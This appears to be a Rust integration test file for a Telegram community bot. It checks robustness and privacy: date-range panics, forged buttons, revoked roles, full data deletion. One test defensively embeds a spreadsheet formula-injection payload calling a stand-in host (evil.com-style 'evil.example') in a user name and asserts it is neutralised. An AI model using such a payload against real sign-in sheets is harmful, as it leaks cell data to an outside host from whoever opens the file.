//! Safe with real people's data: no typed or stored value takes the bot
//! down. Each test reproduces a failure found from outside.

use crate::common::{Harness, TUser};
use chrono::Duration;
use discorsi::{
    clock::Clock,
    events::{
        model::{Audience, Event},
        store,
    },
    i18n::Lang,
};

const ADMIN: i64 = 800;

fn workshop(h: &Harness) -> Event {
    crate::common::workshop(h, Duration::days(2), ADMIN)
}

/// The member opens Workshops, then the first event's card, and signs up.
async fn browse_and_sign_up(h: &Harness, u: &mut TUser) {
    let it = Lang::It;
    u.send("/menu");
    u.expect(&h.t(it, "menu-title")).await;
    u.click(&h.t(it, "menu-events"));
    u.expect("Laboratorio CV").await;
    u.click("1");
    u.expect("Laboratorio CV").await;
}

#[tokio::test]
async fn a_year_out_of_range_is_refused_everywhere_it_can_be_typed() {
    let h = Harness::start_with_admins(vec![ADMIN]).await;
    let en = Lang::En;
    let db = h.db.connect().await;
    let id = store::create(&db, &workshop(&h), h.clock.now())
        .await
        .unwrap();
    let mut admin = h.user(ADMIN, Some("en"));
    admin.onboard(&h.i18n, en).await;
    // Reproduced: the bot said "Saved", then panicked, and so did everyone
    // who opened Workshops, after every restart.
    admin.click(&h.t(en, "menu-manage-events"));
    let list = admin.expect(&h.t(en, "ev-manage-title")).await;
    admin.press_data(list.message_id().unwrap(), &format!("ev:org:{id}"));
    admin.expect_button(&h.t(en, "ev-change-time")).await;
    admin.click(&h.t(en, "ev-change-time"));
    admin.expect(&h.t(en, "ev-ask-new-start")).await;
    for typed in [
        "31/12/262142 22:30",
        "1/1/1999 10:00",
        "1/1/2101 10:00",
        "31/12/99999 9:00",
    ] {
        admin.send(typed);
        admin.expect(&h.t(en, "ev-date-unreadable")).await;
    }
    let e = store::get(&db, id).await.unwrap().unwrap();
    assert_eq!(e.starts_at, workshop(&h).starts_at, "nothing was saved");
    let mut member = h.user(801, Some("it"));
    member.onboard(&h.i18n, Lang::It).await;
    browse_and_sign_up(&h, &mut member).await;
}

#[tokio::test]
async fn an_extreme_time_already_stored_never_takes_the_bot_down() {
    let mut h = Harness::start_with_admins(vec![ADMIN]).await;
    let db = h.db.connect().await;
    let id = store::create(&db, &workshop(&h), h.clock.now())
        .await
        .unwrap();
    let mut member = h.user(811, Some("it"));
    member.onboard(&h.i18n, Lang::It).await;
    browse_and_sign_up(&h, &mut member).await;
    member.click(&h.t(Lang::It, "ev-sign-up"));
    member.expect_call("sendDocument").await;
    // The end of chrono's range (31/12/262142), as an older version stored it.
    sqlx::query("UPDATE events SET starts_at = $1, ends_at = $2 WHERE id = $3")
        .bind(8_210_266_876_799_i64 - 7200)
        .bind(8_210_266_876_799_i64)
        .bind(id)
        .execute(db.pool())
        .await
        .unwrap();
    h.stop_bot().await;
    h.start_bot().await;
    let it = Lang::It;
    // Every screen that shows it: the list, the card, my sign-ups, the
    // calendar file, the organiser's screen, the certificate.
    member.send("/menu");
    member.expect(&h.t(it, "menu-title")).await;
    member.click(&h.t(it, "menu-events"));
    member.expect("Laboratorio CV").await;
    member.click("1");
    member.expect("Laboratorio CV").await;
    member.send("/menu");
    member.expect(&h.t(it, "menu-title")).await;
    member.click(&h.t(it, "menu-my-signups"));
    member.expect("Laboratorio CV").await;
    member.send("/certificate");
    member.expect("").await;
    let mut admin = h.user(ADMIN, Some("en"));
    admin.onboard(&h.i18n, Lang::En).await;
    admin.click(&h.t(Lang::En, "menu-manage-events"));
    let list = admin.expect(&h.t(Lang::En, "ev-manage-title")).await;
    admin.press_data(list.message_id().unwrap(), &format!("ev:org:{id}"));
    admin.expect_button(&h.t(Lang::En, "ev-change-time")).await;
    // The scheduler passes over it too (reminders, feedback prompts).
    h.clock.advance(Duration::hours(1));
    member.send("/help");
    member.expect(&h.t(it, "help-intro")).await;
}

#[tokio::test]
async fn a_year_out_of_range_in_a_schedule_or_a_report_period() {
    let h = Harness::start_with_admins(vec![ADMIN]).await;
    let en = Lang::En;
    let mut admin = h.user(ADMIN, Some("en"));
    admin.onboard(&h.i18n, en).await;
    let mut reader = h.user(821, Some("en"));
    reader.onboard(&h.i18n, en).await;
    // An announcement's schedule. Reproduced: panicked on the confirm screen.
    admin.click(&h.t(en, "bc-new"));
    admin.expect(&h.t(en, "bc-audience-prompt")).await;
    admin.click(&h.t(en, "bc-aud-everyone"));
    admin.expect(&h.t(en, "bc-aud-everyone-inline")).await;
    admin.send("Hello everyone");
    admin.expect("That's the preview above").await;
    admin.click(&h.t(en, "bc-schedule"));
    admin.expect(&h.t(en, "bc-when")).await;
    admin.send("31/12/262142 22:30");
    admin.expect(&h.t(en, "bc-when-unreadable")).await;
    admin.send("1/1/2101 10:00");
    admin.expect(&h.t(en, "bc-when-unreadable")).await;
    // A report's custom period. Reproduced: panicked in feedback/model.rs.
    admin.send("/report");
    admin.expect(&h.t(en, "rep-choose-period")).await;
    admin.click(&h.t(en, "rep-custom"));
    admin.expect(&h.t(en, "rep-custom-prompt")).await;
    admin.send("1/12/262142 - 31/12/262142");
    admin.expect(&h.t(en, "rep-period-unreadable")).await;
    admin.send("1/1/1999 - 31/12/2101");
    admin.expect(&h.t(en, "rep-period-unreadable")).await;
    admin.send("/help");
    admin.expect(&h.t(en, "help-intro")).await;
}

#[tokio::test]
async fn a_formula_in_a_name_stays_text_in_the_sign_in_sheet() {
    let h = Harness::start_with_admins(vec![ADMIN]).await;
    let db = h.db.connect().await;
    let id = store::create(&db, &workshop(&h), h.clock.now())
        .await
        .unwrap();
    // Reproduced: this name appeared as a live formula in the sign-in sheet.
    let attack = r#"=HYPERLINK("http://evil.example/?q="&B2,"Apri")"#;
    let mut member = h.user_named(831, attack, Some("it"));
    member.onboard(&h.i18n, Lang::It).await;
    browse_and_sign_up(&h, &mut member).await;
    member.click(&h.t(Lang::It, "ev-sign-up"));
    member.expect_call("sendDocument").await;
    let en = Lang::En;
    let mut admin = h.user(ADMIN, Some("en"));
    admin.onboard(&h.i18n, en).await;
    admin.click(&h.t(en, "menu-manage-events"));
    let list = admin.expect(&h.t(en, "ev-manage-title")).await;
    admin.press_data(list.message_id().unwrap(), &format!("ev:org:{id}"));
    admin.expect_button(&h.t(en, "ev-csv")).await;
    admin.click(&h.t(en, "ev-csv"));
    let doc = admin.expect_call("sendDocument").await;
    let file = doc.message.as_ref().unwrap()["document"]["file_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let bytes = h.fake.upload(&file).unwrap().bytes;
    let mut r = csv::ReaderBuilder::new().from_reader(bytes.as_slice());
    let names: Vec<String> = r
        .records()
        .map(|rec| rec.unwrap().get(0).unwrap().to_owned())
        .collect();
    assert_eq!(names, [format!("'{attack}")]);
}

#[tokio::test]
async fn a_reminder_telegram_refuses_for_good_is_not_retried_forever() {
    let h = Harness::start().await;
    let db = h.db.connect().await;
    let mut u = h.user(841, Some("it"));
    u.onboard(&h.i18n, Lang::It).await;
    let mut e = workshop(&h);
    e.starts_at = h.clock.now() + Duration::hours(3);
    e.ends_at = e.starts_at + Duration::hours(1);
    let id = store::create(&db, &e, h.clock.now()).await.unwrap();
    store::sign_up(&db, id, 841, &[120], h.clock.now())
        .await
        .unwrap();
    // Reproduced: a 400 was retried on every pass, forever.
    h.fake.fail(
        Some("sendMessage"),
        discorsi::fake_api::Fault::BadRequest("message is too long".into()),
        None,
    );
    h.clock.advance(Duration::hours(1) + Duration::minutes(1));
    let outcome = || async {
        sqlx::query_as::<_, (Option<String>,)>(
            "SELECT outcome FROM reminders WHERE event_id = $1 AND user_id = 841",
        )
        .bind(id)
        .fetch_one(db.pool())
        .await
        .unwrap()
        .0
    };
    let deadline = tokio::time::Instant::now() + crate::common::WAIT;
    while outcome().await.is_none() && tokio::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(outcome().await.as_deref(), Some("failed"));
    // Later passes leave it alone: one attempt in all.
    h.clock.advance(Duration::minutes(30));
    h.fake.clear_faults();
    u.send("/help");
    u.expect(&h.t(Lang::It, "help-intro")).await;
    let attempts = h
        .fake
        .calls()
        .iter()
        .filter(|c| {
            c.chat_id == Some(841) && c.error.as_deref().is_some_and(|e| e.contains("too long"))
        })
        .count();
    assert_eq!(attempts, 1);
}

#[tokio::test]
async fn a_forged_button_shows_nothing_of_an_event_that_is_not_yours() {
    let h = Harness::start_with_admins(vec![ADMIN]).await;
    let db = h.db.connect().await;
    let now = h.clock.now();
    let assoc = discorsi::associations::store::create(&db, "Riservata", "", &[], ADMIN, now)
        .await
        .unwrap();
    let other = discorsi::associations::store::create(&db, "Altra", "", &[], ADMIN, now)
        .await
        .unwrap();
    let mut e = workshop(&h);
    e.association_id = Some(assoc);
    e.audience = Audience::Members;
    e.place = "Via Segreta 7".into();
    e.online_url = "https://meet.example.org/segreto".into();
    let id = store::create(&db, &e, now).await.unwrap();
    // One person in no association, one in another association.
    let mut outsider = h.user(851, Some("it"));
    outsider.onboard(&h.i18n, Lang::It).await;
    let mut neighbour = h.user(852, Some("it"));
    neighbour.onboard(&h.i18n, Lang::It).await;
    discorsi::associations::store::join(&db, other, 852, now)
        .await
        .unwrap();
    for u in [&mut outsider, &mut neighbour] {
        u.send("/menu");
        let menu = u.expect(&h.t(Lang::It, "menu-title")).await;
        // Reproduced: this, then Back, showed the title, place and link.
        // Ids are sequential, so every event could be read this way.
        for forged in [id, id + 1, 1] {
            u.press_data(menu.message_id().unwrap(), &format!("ev:cantcome:{forged}"));
            let shown = u.expect(&h.t(Lang::It, "button-expired")).await;
            u.press_data(shown.message_id().unwrap(), "nav:back");
            u.expect("").await;
        }
        let leaked = h.fake.calls().iter().any(|c| {
            c.ok && c.chat_id == Some(u.id())
                && [
                    "Laboratorio CV",
                    "Via Segreta",
                    "meet.example.org",
                    "curriculum",
                ]
                .iter()
                .any(|s| c.text().contains(s) || format!("{:?}", c.message).contains(s))
        });
        assert!(!leaked, "user {} saw the event", u.id());
    }
}

#[tokio::test]
async fn a_revoked_staff_member_sees_nothing_at_their_next_update() {
    let h = Harness::start_with_admins(vec![ADMIN]).await;
    let db = h.db.connect().await;
    let now = h.clock.now();
    let id = store::create(&db, &workshop(&h), now).await.unwrap();
    let mut member = h.user(861, Some("it"));
    member.onboard(&h.i18n, Lang::It).await;
    store::sign_up(&db, id, 861, &[], now).await.unwrap();
    // Something in the staff inbox: a wrong-information report.
    discorsi::directory::store::add_gap(&db, 861, "it", "sportello casa", "", now)
        .await
        .unwrap();
    let en = Lang::En;
    let mut staff = h.user(862, Some("en"));
    staff.onboard(&h.i18n, en).await;
    discorsi::associations::store::grant_staff(&db, 862, ADMIN, now)
        .await
        .unwrap();
    let check = |u: &TUser, since: u64| {
        let calls = h.fake.calls();
        let leaked = calls
            .iter()
            .filter(|c| c.seq >= since && c.ok && c.chat_id == Some(u.id()))
            .find(|c| {
                let shown = format!("{:?}", c.message);
                shown.contains("User861") || shown.contains("sportello")
            });
        assert!(
            leaked.is_none(),
            "{:?}",
            leaked.map(|c| c.text().to_owned())
        );
    };
    // The attendance list is open when the role is revoked; then a sticker.
    staff.send("/menu");
    staff.expect(&h.t(en, "menu-title")).await;
    staff.click(&h.t(en, "menu-manage-events"));
    let list = staff.expect(&h.t(en, "ev-manage-title")).await;
    staff.press_data(list.message_id().unwrap(), &format!("ev:org:{id}"));
    staff.expect_button(&h.t(en, "ev-attendance")).await;
    h.clock.advance(Duration::days(2));
    staff.click(&h.t(en, "ev-attendance"));
    staff.expect_button("⬜ User861").await;
    discorsi::associations::store::revoke_staff(&db, 862)
        .await
        .unwrap();
    let since = h.fake.next_seq();
    h.fake.send_sticker(&staff.u);
    staff.expect(&h.t(en, "ev-not-your-event")).await;
    check(&staff, since);
    // The same for the staff inbox.
    discorsi::associations::store::grant_staff(&db, 862, ADMIN, now)
        .await
        .unwrap();
    staff.send("/menu");
    let menu = staff.expect(&h.t(en, "menu-title")).await;
    staff.press_data(menu.message_id().unwrap(), "menu:inbox");
    staff.expect("sportello").await;
    discorsi::associations::store::revoke_staff(&db, 862)
        .await
        .unwrap();
    let since = h.fake.next_seq();
    h.fake.send_sticker(&staff.u);
    staff.expect(&h.t(en, "staff-only")).await;
    h.fake.send_text(&staff.u, "hello");
    staff.expect(&h.t(en, "staff-only")).await;
    check(&staff, since);
}

#[tokio::test]
async fn rights_can_be_withdrawn_and_are_checked_again_when_a_send_fires() {
    use discorsi::{
        associations::store as astore,
        broadcasts::store::{self as bstore, Audience as To},
    };
    let h = Harness::start_with_admins(vec![ADMIN]).await;
    let db = h.db.connect().await;
    let now = h.clock.now();
    let en = Lang::En;
    let assoc = astore::create(&db, "Casa aperta", "", &[], ADMIN, now)
        .await
        .unwrap();
    let code = astore::create_invite(&db, assoc, astore::InviteKind::Leader, ADMIN, now, None)
        .await
        .unwrap();
    let mut leader = h.user(871, Some("en"));
    leader.onboard(&h.i18n, en).await;
    astore::redeem(&db, astore::InviteKind::Leader, &code, 871, now)
        .await
        .unwrap();
    let mut member = h.user(872, Some("en"));
    member.onboard(&h.i18n, en).await;
    astore::join(&db, assoc, 872, now).await.unwrap();

    // A leader cancels a planned announcement from the history.
    let planned = |text: &'static str| {
        let db = db.clone();
        async move {
            let id = bstore::create_draft(&db, 871, 871, &To::Association(assoc), text, None, now)
                .await
                .unwrap();
            assert!(
                bstore::schedule(&db, id, now + Duration::hours(2))
                    .await
                    .unwrap()
            );
            id
        }
    };
    let first = planned("Prima riunione").await;
    leader.send("/menu");
    leader.expect(&h.t(en, "menu-title")).await;
    leader.click(&h.t(en, "menu-my-association"));
    leader.expect("Casa aperta").await;
    leader.click(&h.t(en, "bc-history"));
    leader.expect("Prima riunione").await;
    let cancel = leader
        .fake
        .bot_messages(871)
        .iter()
        .rev()
        .find_map(|m| {
            discorsi::fake_api::buttons_of(m)
                .into_iter()
                .find(|(_, d)| d == &format!("bc:unschedule:{first}"))
        })
        .expect("a cancel button for the planned announcement");
    leader.click(&cancel.0);
    leader.expect(&h.t(en, "bc-unscheduled")).await;
    assert_eq!(
        bstore::get(&db, first).await.unwrap().unwrap().status,
        "cancelled"
    );

    // Staff take the leader's role away; what they planned is not sent.
    let second = planned("Seconda riunione").await;
    let mut admin = h.user(ADMIN, Some("en"));
    admin.onboard(&h.i18n, en).await;
    admin.click(&h.t(en, "menu-associations"));
    admin.expect(&h.t(en, "assoc-list")).await;
    admin.click("Casa aperta");
    let remove = h
        .i18n
        .fmt(en, "assoc-remove-leader", &[("name", "User871".into())]);
    admin.expect_button(&remove).await;
    admin.click(&remove);
    admin
        .expect_button(&h.t(en, "assoc-remove-leader-yes"))
        .await;
    admin.click(&h.t(en, "assoc-remove-leader-yes"));
    admin.expect(&h.t(en, "assoc-leader-removed")).await;
    h.clock.advance(Duration::hours(3));
    leader.expect(&h.t(en, "bc-scheduled-withdrawn")).await;
    assert_eq!(
        bstore::get(&db, second).await.unwrap().unwrap().status,
        "cancelled"
    );
    assert_eq!(member.count("Seconda riunione"), 0);
    // The former leader's menu no longer offers the association's tools.
    leader.send("/menu");
    let menu = leader.expect(&h.t(en, "menu-title")).await;
    assert!(
        !menu
            .buttons()
            .iter()
            .any(|b| b.0 == h.t(en, "menu-my-association"))
    );

    // An unused leader invite can be revoked, and then no longer works.
    let unused = astore::create_invite(&db, assoc, astore::InviteKind::Leader, ADMIN, now, None)
        .await
        .unwrap();
    admin.send("/menu");
    admin.expect(&h.t(en, "menu-title")).await;
    admin.click(&h.t(en, "menu-associations"));
    admin.expect(&h.t(en, "assoc-list")).await;
    admin.click("Casa aperta");
    let revoke = h
        .i18n
        .fmt(en, "assoc-revoke-leader-invites", &[("count", 1.into())]);
    admin.expect_button(&revoke).await;
    admin.click(&revoke);
    admin
        .expect(
            &h.i18n
                .fmt(en, "assoc-leader-invites-revoked", &[("count", 1.into())]),
        )
        .await;
    assert_eq!(
        astore::redeem(&db, astore::InviteKind::Leader, &unused, 873, now)
            .await
            .unwrap(),
        astore::Redeem::Invalid
    );
}

/// Every (table, column) whose value mentions `needle`, on either database.
async fn find_anywhere(db: &discorsi::storage::Db, needle: &str) -> Vec<String> {
    let columns: Vec<(String, String)> = match db.backend() {
        discorsi::storage::Backend::Sqlite => {
            let tables: Vec<(String,)> =
                sqlx::query_as("SELECT name FROM sqlite_master WHERE type = 'table'")
                    .fetch_all(db.pool())
                    .await
                    .unwrap();
            let mut out = vec![];
            for (t,) in tables {
                let cols: Vec<(String,)> =
                    sqlx::query_as(&format!("SELECT name FROM pragma_table_info('{t}')"))
                        .fetch_all(db.pool())
                        .await
                        .unwrap();
                out.extend(cols.into_iter().map(|(c,)| (t.clone(), c)));
            }
            out
        }
        discorsi::storage::Backend::Postgres => sqlx::query_as(
            "SELECT table_name::text, column_name::text FROM information_schema.columns
             WHERE table_schema = current_schema()",
        )
        .fetch_all(db.pool())
        .await
        .unwrap(),
    };
    assert!(columns.len() > 50, "the scan sees the schema: {columns:?}");
    let mut found = vec![];
    for (t, c) in columns {
        let (n,): (i64,) = sqlx::query_as(&format!(
            "SELECT COUNT(*) FROM {t} WHERE CAST({c} AS TEXT) LIKE $1"
        ))
        .bind(format!("%{needle}%"))
        .fetch_one(db.pool())
        .await
        .unwrap();
        if n > 0 {
            found.push(format!("{t}.{c} ({n})"));
        }
    }
    found
}

#[tokio::test]
async fn delete_leaves_no_trace_and_mydata_shows_everything_first() {
    use discorsi::{
        associations::store as astore,
        broadcasts::store::{self as bstore, Audience as To},
        directory::store as dstore,
        feedback::store as fstore,
    };
    const ME: i64 = 987_654_321;
    const NAME: &str = "Zeynep Kaya";
    const PII: &str = "Via Garibaldi 12, tel 3331234567";
    let mut h = Harness::start_with_admins(vec![ADMIN, ME]).await;
    let db = h.db.connect().await;
    let now = h.clock.now();
    let it = Lang::It;
    let mut me = h.user_named(ME, NAME, Some("it"));
    me.onboard(&h.i18n, it).await;
    let mut waiting = h.user(881, Some("it"));
    waiting.onboard(&h.i18n, it).await;
    let mut member = h.user(882, Some("it"));
    member.onboard(&h.i18n, it).await;
    // As an admin: an association, a leader invite and a staff grant.
    let assoc = astore::create(&db, "Ponti", "", &[], ME, now)
        .await
        .unwrap();
    let invite = astore::create_invite(&db, assoc, astore::InviteKind::Member, ME, now, None)
        .await
        .unwrap();
    astore::redeem(&db, astore::InviteKind::Member, &invite, 882, now)
        .await
        .unwrap();
    astore::grant_staff(&db, 883, ME, now).await.unwrap();
    // An event they organise, and one they hold the last seat of.
    let mut mine = workshop(&h);
    mine.created_by = ME;
    store::create(&db, &mine, now).await.unwrap();
    let mut full = workshop(&h);
    full.capacity = 1;
    let full = store::create(&db, &full, now).await.unwrap();
    store::sign_up(&db, full, ME, &[1440, 120], now)
        .await
        .unwrap();
    store::sign_up(&db, full, 881, &[1440, 120], now)
        .await
        .unwrap();
    // Words they wrote, with personal details in them.
    let subject = fstore::Subject {
        kind: discorsi::feedback::model::Kind::Event,
        event_id: Some(full),
        service_id: None,
        association_id: None,
        topic: "work",
    };
    let f = fstore::start_event_feedback(&db, ME, &subject, "it", Some(4), now)
        .await
        .unwrap()
        .unwrap();
    assert!(fstore::set_comment(&db, ME, f, PII, now).await.unwrap());
    dstore::add_gap(&db, ME, "it", PII, PII, now).await.unwrap();
    dstore::add_report(&db, "to-casa-1", ME, "it", PII, now)
        .await
        .unwrap();
    sqlx::query("INSERT INTO feedback_prompts (event_id, user_id, created_at) VALUES ($1, $2, $3)")
        .bind(full)
        .bind(ME)
        .bind(now.timestamp())
        .execute(db.pool())
        .await
        .unwrap();
    // A planned announcement of theirs, and one they received.
    let planned = bstore::create_draft(
        &db,
        ME,
        ME,
        &To::Association(assoc),
        "Festa sabato",
        None,
        now,
    )
    .await
    .unwrap();
    assert!(
        bstore::schedule(&db, planned, now + Duration::hours(5))
            .await
            .unwrap()
    );
    let received = bstore::create_draft(
        &db,
        ADMIN,
        ADMIN,
        &To::Everyone,
        "Avviso a tutti",
        None,
        now,
    )
    .await
    .unwrap();
    assert!(bstore::start(&db, received, now).await.unwrap());
    me.expect("Avviso a tutti").await;
    users_unreachable_once(&h, &db, ME).await;

    // /mydata shows all of it.
    let data = discorsi::privacy::collect(&db, ME).await.unwrap();
    for key in [
        "events_organised",
        "reminders",
        "invites_created",
        "announcements_received",
        "feedback_prompts",
    ] {
        assert!(
            data[key].as_array().is_some_and(|a| !a.is_empty()),
            "{key}: {data:#?}"
        );
    }
    let written = data["announcements"]["announcements_written"].to_string();
    assert!(
        written.contains("scheduled") && written.contains("Festa sabato"),
        "{written}"
    );
    assert!(
        data["profile"]["unreachable_since"].is_string(),
        "{data:#?}"
    );

    // The scan does find them before.
    let before = find_anywhere(&db, &ME.to_string()).await;
    assert!(before.len() >= 10, "{before:?}");
    assert!(!find_anywhere(&db, "3331234567").await.is_empty());
    // /delete.
    me.send("/delete");
    me.expect(&h.t(it, "delete-confirm")).await;
    me.click(&h.t(it, "delete-yes"));
    me.expect(&h.t(it, "delete-done")).await;
    h.stop_bot().await;
    // Reproduced: the id stayed in broadcasts.sender_chat, events.created_by,
    // invites.created_by, associations.created_by and staff.granted_by, and
    // what they wrote stayed word for word.
    assert_eq!(
        find_anywhere(&db, &ME.to_string()).await,
        Vec::<String>::new()
    );
    assert_eq!(find_anywhere(&db, NAME).await, Vec::<String>::new());
    assert_eq!(find_anywhere(&db, "3331234567").await, Vec::<String>::new());
    h.start_bot().await;
    // Their seat went to the first on the waitlist, who was told.
    assert_eq!(
        store::status_of(&db, full, 881).await.unwrap(),
        Some(store::SignUp::Confirmed)
    );
    waiting.expect("Laboratorio CV").await;
    // Their invite link no longer works; their planned announcement never goes.
    assert_eq!(
        astore::redeem(&db, astore::InviteKind::Member, &invite, 884, now)
            .await
            .unwrap(),
        astore::Redeem::Invalid
    );
    h.clock.advance(Duration::hours(6));
    member.send("/help");
    member.expect(&h.t(it, "help-intro")).await;
    assert_eq!(member.count("Festa sabato"), 0);
    // The anonymous rating is still counted.
    let (ratings,): (i64,) = sqlx::query_as("SELECT COUNT(*) FROM feedback WHERE rating = 4")
        .fetch_one(db.pool())
        .await
        .unwrap();
    assert_eq!(ratings, 1);
}

/// Marks `user` unreachable (a send refused with 403), as the bot would.
async fn users_unreachable_once(h: &Harness, db: &discorsi::storage::Db, user: i64) {
    discorsi::storage::users::mark_unreachable(db, user, h.clock.now())
        .await
        .unwrap();
}

/// A report view is checked again whenever it is drawn: someone who was
/// staff and now only leads an association, left on the per-language
/// breakdown, gets the per-topic view of their association at the next
/// redraw, not the project-wide languages.
#[tokio::test]
async fn a_report_view_is_checked_again_when_redrawn_after_a_role_shrinks() {
    let h = Harness::start_with_admins(vec![ADMIN]).await;
    let db = h.db.connect().await;
    let now = h.clock.now();
    let a = discorsi::associations::store::create(&db, "Rete", "", &[], ADMIN, now)
        .await
        .unwrap();
    crate::common::make_leader(&db, 863, a).await;
    discorsi::associations::store::grant_staff(&db, 863, ADMIN, now)
        .await
        .unwrap();
    let en = Lang::En;
    let mut u = h.user(863, Some("en"));
    u.onboard(&h.i18n, en).await;
    u.send("/report");
    u.expect(&h.t(en, "rep-choose-period")).await;
    u.click(
        &h.i18n
            .fmt(en, "rep-previous.short", &[("span", "week".into())]),
    );
    u.expect(&h.t(en, "rep-by-topic")).await;
    u.click(&h.t(en, "rep-by-language.short"));
    let r = u.expect(&h.t(en, "rep-by-language")).await;
    assert!(r.text().contains(&h.t(en, "rep-by-language")));
    discorsi::associations::store::revoke_staff(&db, 863)
        .await
        .unwrap();
    h.fake.send_sticker(&u.u);
    let r = u.expect(&h.t(en, "hint-no-media")).await;
    assert!(r.text().contains(&h.t(en, "rep-by-topic")), "{}", r.text());
    assert!(
        !r.text().contains(&h.t(en, "rep-by-language")),
        "{}",
        r.text()
    );
    assert!(u.find_button(&h.t(en, "rep-by-language.short")).is_none());
}
